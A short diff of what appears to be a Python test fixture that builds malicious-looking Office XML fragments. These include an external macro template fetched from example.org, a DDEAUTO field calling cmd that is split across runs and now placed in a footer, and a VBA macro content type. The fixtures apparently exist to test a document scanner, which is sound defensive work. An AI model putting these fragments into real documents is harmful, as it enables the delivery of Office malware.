@@ -37,7 +37,7 @@ TEMPLATE = (
     'Target="https://example.org/x.dotm" TargetMode="External"/></Relationships>'
 )
 LINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
-FIELD = "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>"
+FIELD = "<w:ftr><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:ftr>"
 MACRO = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
 
 
